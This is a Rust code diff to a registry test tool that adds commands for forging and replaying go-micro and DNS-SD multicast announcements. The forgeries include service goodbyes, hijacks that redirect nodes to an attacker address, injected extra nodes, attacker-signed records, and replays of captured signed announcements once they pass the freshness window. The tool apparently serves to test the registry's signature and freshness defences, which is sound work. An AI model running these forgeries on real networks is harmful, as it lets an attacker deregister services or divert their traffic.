@@ -75,7 +75,9 @@ enum QueryCommand {
         edns: bool,
     },
     /// One forged go-micro announcement (or goodbye with `--ttl 0`) of node
-    /// `id` of `service`, signed with `--key` if given (an attacker's key).
+    /// `id` of `service`, signed with `--key` if given (an attacker's key, or
+    /// the registry's, to build a valid record), made `--age-ms` ago; with
+    /// `--dnssd`, the same as a DNS-SD instance (which carries no signature).
     Forge {
         #[arg(long)]
         service: String,
@@ -83,10 +85,41 @@ enum QueryCommand {
         id: String,
         #[arg(long)]
         address: Ipv4Addr,
+        #[arg(long, default_value_t = 666)]
+        port: u16,
         #[arg(long, default_value_t = 120)]
         ttl: u32,
         #[arg(long)]
         key: Option<String>,
+        /// Sign as if `age_ms` milliseconds ago (negative: in the future).
+        #[arg(long, default_value_t = 0, allow_hyphen_values = true)]
+        age_ms: i64,
+        #[arg(long)]
+        dnssd: bool,
+    },
+    /// Forgeries against nodes `<id>-<i>` (i < `nodes`) of `service` at
+    /// `address`, `rate` a second for `seconds`, round-robin: go-micro
+    /// goodbyes, hijacks and extra nodes, unsigned and signed with
+    /// `attacker_key`; the same three over DNS-SD; and replays of the
+    /// publisher's own announcements (captured off the wire) once they are
+    /// older than the freshness window. Prints a JSON summary of what it sent.
+    Forgeries {
+        #[arg(long)]
+        service: String,
+        #[arg(long)]
+        id: String,
+        #[arg(long)]
+        nodes: usize,
+        #[arg(long)]
+        address: Ipv4Addr,
+        #[arg(long, default_value_t = 8080)]
+        port: u16,
+        #[arg(long, default_value_t = 50)]
+        rate: u64,
+        #[arg(long)]
+        seconds: u64,
+        #[arg(long)]
+        attacker_key: String,
     },
     /// Captures the next announcement that names `id` and multicasts it
     /// again `delay_ms` later (a replay).
@@ -108,9 +141,46 @@ fn main() {
             service,
             id,
             address,
+            port,
             ttl,
             key,
-        }) => return forge(service, id, *address, *ttl, key.as_deref(), cli.interface),
+            age_ms,
+            dnssd,
+        }) => {
+            let node = microreg::Service::new(service.as_str(), "1.0.0").with_node(
+                microreg::Node::new(id.as_str(), format!("{address}:{port}")),
+            );
+            let bytes = if *dnssd {
+                message(dnssd_instance(&node, *ttl))
+            } else {
+                forged_gomicro(&node, *ttl, key.as_deref(), *age_ms)
+            };
+            multicast_socket(cli.interface)
+                .send_to(&bytes, GROUP)
+                .expect("send the forgery");
+            println!("sent");
+            return;
+        }
+        Some(QueryCommand::Forgeries {
+            service,
+            id,
+            nodes,
+            address,
+            port,
+            rate,
+            seconds,
+            attacker_key,
+        }) => {
+            let target = Target {
+                service,
+                id,
+                nodes: *nodes,
+                address: *address,
+                port: *port,
+            };
+            let interface = cli.interface.expect("--interface");
+            return forgeries(&target, *rate, *seconds, attacker_key, interface);
+        }
         Some(QueryCommand::Replay { id, delay_ms }) => {
             return replay(id, *delay_ms, cli.interface.expect("--interface"))
         }
@@ -135,6 +205,11 @@ fn main() {
             hickory_proto::rr::RecordType::PTR,
         )];
         std::fs::write(dir.join("query.bin"), query.to_vec().unwrap()).expect("write a seed");
+        // Signed with the packet fuzz target's key (fuzz/fuzz_targets/packet.rs).
+        let node = microreg::Service::new("greeter", "1.0.0")
+            .with_node(microreg::Node::new("greeter-9", "10.0.0.9:8080"));
+        let signed = forged_gomicro(&node, 120, Some("the registry key of the fuzz target"), 0);
+        std::fs::write(dir.join("signed.bin"), signed).expect("write a seed");
         return;
     }
     let seconds = cli.seconds.min(MAX_SECONDS);
@@ -367,47 +442,216 @@ fn multicast_socket(interface: Option<Ipv4Addr>) -> UdpSocket {
     socket
 }
 
-fn forge(
-    service: &str,
-    id: &str,
-    address: Ipv4Addr,
-    ttl: u32,
-    key: Option<&str>,
-    interface: Option<Ipv4Addr>,
-) {
+/// A go-micro announcement (goodbye with `ttl` 0) of the one-node `node`,
+/// signed with `key` as if `age_ms` ago.
+fn forged_gomicro(node: &microreg::Service, ttl: u32, key: Option<&str>, age_ms: i64) -> Vec<u8> {
     use microreg::backend::mdns::signing::{Signed, Signer};
     let mut txt = GoMicroTxt {
         metadata: Some(Default::default()),
-        service: service.into(),
-        version: "1.0.0".into(),
+        service: node.name.clone(),
+        version: node.version.clone(),
         endpoints: Some(Vec::new()),
         signature: None,
     };
     if let Some(key) = key {
         let signer = Signer::new(&[key.to_string()]).unwrap().unwrap();
-        let node = microreg::Service::new(service, "1.0.0")
-            .with_node(microreg::Node::new(id, format!("{address}:666")));
-        txt.signature = Some(signer.sign(&Signed {
+        let now_ms = std::time::SystemTime::now()
+            .duration_since(std::time::UNIX_EPOCH)
+            .unwrap()
+            .as_millis() as i64;
+        let content = Signed {
             domain: "micro",
-            service: &node,
+            service: node,
             alive: ttl > 0,
-        }));
+        };
+        txt.signature = Some(signer.sign_at(&content, (now_ms - age_ms) as u64));
     }
+    let (id, address) = (&node.nodes[0].id, &node.nodes[0].address);
+    let (ip, port) = address.rsplit_once(':').unwrap();
     let entry = EntryRecords {
-        pointer: gomicro_names::service_name(service, "micro").unwrap(),
-        instance: gomicro_names::instance_name(id, service, "micro").unwrap(),
+        pointer: gomicro_names::service_name(&node.name, "micro").unwrap(),
+        instance: gomicro_names::instance_name(id, &node.name, "micro").unwrap(),
         host: Name::from_ascii("attacker.").unwrap(),
-        port: 666,
-        addresses: vec![std::net::IpAddr::V4(address)],
+        port: port.parse().unwrap(),
+        addresses: vec![ip.parse().unwrap()],
         txt: encode(&txt).unwrap(),
     };
-    multicast_socket(interface)
-        .send_to(&message(entry.answer_records(ttl)), GROUP)
-        .expect("send the forgery");
-    println!("sent");
+    message(entry.answer_records(ttl))
 }
 
-fn replay(id: &str, delay_ms: u64, interface: Ipv4Addr) {
+/// The one-node `node` as a DNS-SD instance of `_micro._tcp.local.` (a
+/// goodbye with `ttl` 0), as microreg's DNS-SD side publishes it.
+fn dnssd_instance(node: &microreg::Service, ttl: u32) -> Vec<Record> {
+    let ty = Name::from_ascii("_micro._tcp.local.").unwrap();
+    let (id, address) = (&node.nodes[0].id, &node.nodes[0].address);
+    let (ip, port) = address.rsplit_once(':').unwrap();
+    let instance = Name::from_labels([id.as_bytes()])
+        .unwrap()
+        .append_domain(&ty)
+        .unwrap();
+    let host = Name::from_ascii(format!("forged-{}.local.", ip.replace('.', "-"))).unwrap();
+    let txt = vec![
+        format!("service={}", node.name),
+        format!("version={}", node.version),
+    ];
+    vec![
+        Record::from_rdata(ty, ttl, RData::PTR(PTR(instance.clone()))),
+        Record::from_rdata(
+            instance.clone(),
+            ttl,
+            RData::SRV(SRV::new(0, 0, port.parse().unwrap(), host.clone())),
+        ),
+        Record::from_rdata(instance, ttl, RData::TXT(TXT::new(txt))),
+        Record::from_rdata(host, ttl, RData::A(A(ip.parse().unwrap()))),
+    ]
+}
+
+/// The nodes a forger goes for.
+struct Target<'a> {
+    service: &'a str,
+    id: &'a str,
+    nodes: usize,
+    address: Ipv4Addr,
+    port: u16,
+}
+
+/// The forgeries, in the order they are sent.
+const FORGERIES: [&str; 10] = [
+    "goodbye",
+    "goodbye-signed",
+    "hijack",
+    "hijack-signed",
+    "extra",
+    "extra-signed",
+    "dnssd-goodbye",
+    "dnssd-hijack",
+    "dnssd-extra",
+    "replay",
+];
+
+fn forgeries(
+    target: &Target<'_>,
+    rate: u64,
+    seconds: u64,
+    attacker_key: &str,
+    interface: Ipv4Addr,
+) {
+    use microreg::backend::mdns::signing::FRESHNESS;
+    let captured = capture(target.id, interface);
+    let socket = multicast_socket(Some(interface));
+    let seconds = seconds.min(3600);
+    let total = rate.max(1) * seconds;
+    let mut sent: std::collections::BTreeMap<&str, u64> = Default::default();
+    let mut rng = Rng(std::process::id() as u64 | 1);
+    let hijacker = Ipv4Addr::new(10, 66, 6, 6);
+    let started = Instant::now();
+    for n in 0..total {
+        let due = started + Duration::from_secs_f64(n as f64 / rate.max(1) as f64);
+        if let Some(wait) = due.checked_duration_since(Instant::now()) {
+            std::thread::sleep(wait);
+        }
+        let real_id = format!("{}-{}", target.id, rng.next() as usize % target.nodes);
+        let extra_id = format!("{}-forged-{:x}", target.id, rng.next() % 1000);
+        let node = |id: &str, ip: Ipv4Addr| {
+            microreg::Service::new(target.service, "1.0.0")
+                .with_node(microreg::Node::new(id, format!("{ip}:{}", target.port)))
+        };
+        let real = node(&real_id, target.address);
+        let key = Some(attacker_key);
+        let kind = FORGERIES[n as usize % FORGERIES.len()];
+        let bytes = match kind {
+            "goodbye" => forged_gomicro(&real, 0, None, 0),
+            "goodbye-signed" => forged_gomicro(&real, 0, key, 0),
+            "hijack" => forged_gomicro(&node(&real_id, hijacker), 120, None, 0),
+            "hijack-signed" => forged_gomicro(&node(&real_id, hijacker), 120, key, 0),
+            "extra" => forged_gomicro(&node(&extra_id, hijacker), 120, None, 0),
+            "extra-signed" => forged_gomicro(&node(&extra_id, hijacker), 120, key, 0),
+            "dnssd-goodbye" => message(dnssd_instance(&real, 0)),
+            "dnssd-hijack" => message(dnssd_instance(&node(&real_id, hijacker), 120)),
+            "dnssd-extra" => message(dnssd_instance(&node(&extra_id, hijacker), 120)),
+            _ => {
+                // Any capture past the window (with a margin).
+                let old_enough = FRESHNESS + Duration::from_secs(2);
+                let queue = captured.lock().unwrap();
+                let old = queue.partition_point(|(at, _, _)| at.elapsed() > old_enough);
+                if old == 0 {
+                    continue;
+                }
+                let (_, bytes, records) = &queue[rng.next() as usize % old];
+                *sent.entry("replayed-records").or_default() += records;
+                bytes.clone()
+            }
+        };
+        if socket.send_to(&bytes, GROUP).is_ok() {
+            *sent.entry(kind).or_default() += 1;
+        }
+    }
+    let signed = ["goodbye-signed", "hijack-signed", "extra-signed"]
+        .iter()
+        .map(|k| sent.get(k).copied().unwrap_or_default())
+        .sum::<u64>();
+    let replayed_records = sent.remove("replayed-records").unwrap_or_default();
+    let summary = serde_json::json!({
+        "sent": sent.values().sum::<u64>(),
+        "attacker_signed": signed,
+        "replays": sent.get("replay").copied().unwrap_or_default(),
+        "replayed_records": replayed_records,
+        "by_kind": sent,
+    });
+    println!("{summary}");
+}
+
+/// Datagrams heard, oldest first: when, the bytes, how many node records.
+type Captures =
+    std::sync::Arc<std::sync::Mutex<std::collections::VecDeque<(Instant, Vec<u8>, u64)>>>;
+
+/// Listens in the background for responses from other hosts that carry
+/// signed go-micro records of nodes `id…` (the publisher's announcements and
+/// multicast answers): each, with when it was heard and how many such
+/// records it holds, goes to the queue (10,000 kept).
+fn capture(id: &str, interface: Ipv4Addr) -> Captures {
+    let queue = std::sync::Arc::new(std::sync::Mutex::new(std::collections::VecDeque::new()));
+    let socket = listening_socket(interface);
+    let (id, filled) = (id.to_string(), queue.clone());
+    std::thread::spawn(move || {
+        let mut buffer = vec![0u8; 65536];
+        while let Ok((len, from)) = socket.recv_from(&mut buffer) {
+            let bytes = &buffer[..len];
+            let is_response = len > 2 && bytes[2] & 0x80 != 0;
+            // Not our own forgeries (multicast loops back to us).
+            if !is_response || from.ip() == std::net::IpAddr::V4(interface) {
+                continue;
+            }
+            if !bytes.windows(id.len()).any(|w| w == id.as_bytes()) {
+                continue;
+            }
+            let Ok(message) = Message::from_vec(bytes) else {
+                continue;
+            };
+            let records = message
+                .answers
+                .iter()
+                .chain(&message.additionals)
+                .filter(|r| r.ttl > 0)
+                .filter_map(|r| match &r.data {
+                    RData::TXT(txt) => {
+                        microreg::backend::mdns::gomicro_txt::decode(&txt.txt_data).ok()
+                    }
+                    _ => None,
+                })
+                .filter(|txt| txt.signature.is_some())
+                .count() as u64;
+            let mut queue = filled.lock().unwrap();
+            if records > 0 && queue.len() < 10_000 {
+                queue.push_back((Instant::now(), bytes.to_vec(), records));
+            }
+        }
+    });
+    queue
+}
+
+/// A socket on port 5353 that receives the group's datagrams on `interface`.
+fn listening_socket(interface: Ipv4Addr) -> UdpSocket {
     let socket = socket2::Socket::new(
         socket2::Domain::IPV4,
         socket2::Type::DGRAM,
@@ -420,7 +664,11 @@ fn replay(id: &str, delay_ms: u64, interface: Ipv4Addr) {
         .bind(&std::net::SocketAddr::from((Ipv4Addr::UNSPECIFIED, 5353)).into())
         .unwrap();
     socket.join_multicast_v4(GROUP.ip(), &interface).unwrap();
-    let socket: UdpSocket = socket.into();
+    socket.into()
+}
+
+fn replay(id: &str, delay_ms: u64, interface: Ipv4Addr) {
+    let socket = listening_socket(interface);
     socket
         .set_read_timeout(Some(Duration::from_secs(30)))
         .unwrap();
